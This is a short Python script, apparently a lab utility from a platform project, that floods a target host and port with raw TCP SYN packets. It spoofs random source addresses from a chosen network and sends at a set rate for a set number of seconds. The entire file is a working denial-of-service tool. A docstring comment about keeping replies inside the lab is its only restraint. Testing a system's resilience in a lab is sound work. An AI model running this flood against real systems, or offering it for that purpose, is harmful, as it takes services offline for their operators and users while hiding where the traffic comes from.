# -*- coding: utf-8 -*-
# Copyright: (c) 2026, The arxos.platform maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Sends SYN packets and nothing else: syn_flood.py TARGET PORT SECONDS RATE SOURCE_NETWORK. Needs CAP_NET_RAW; prints how many it sent.

Sources are addresses of SOURCE_NETWORK (a /32 for one): tests name one whose answers do not leave the lab. Packets are made before the first is sent.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

PACKETS = 20_000
BATCH = 50


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, source_port: int, port: int) -> bytes:
    """An IPv4 packet with a SYN; the kernel fills in what is left of the IP header."""
    head = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_of = checksum(source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head)) + head)
    tcp = head[:16] + struct.pack("!H", sum_of) + head[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main() -> None:
    """Send for so many seconds at most at that rate."""
    target, port, seconds, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    network = ipaddress.IPv4Network(sys.argv[5])
    there = socket.inet_aton(target)
    packets = [
        syn(network[random.randrange(network.num_addresses)].packed, there, random.randrange(1024, 65536), port)
        for _number in range(PACKETS)
    ]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    start, sent = time.monotonic(), 0
    while (passed := time.monotonic() - start) < seconds:
        if sent > passed * rate:
            time.sleep(0.001)
            continue
        for packet in packets[sent % PACKETS : sent % PACKETS + BATCH]:
            raw.sendto(packet, (target, 0))
        sent += BATCH
    print(sent, flush=True)


if __name__ == "__main__":
    main()
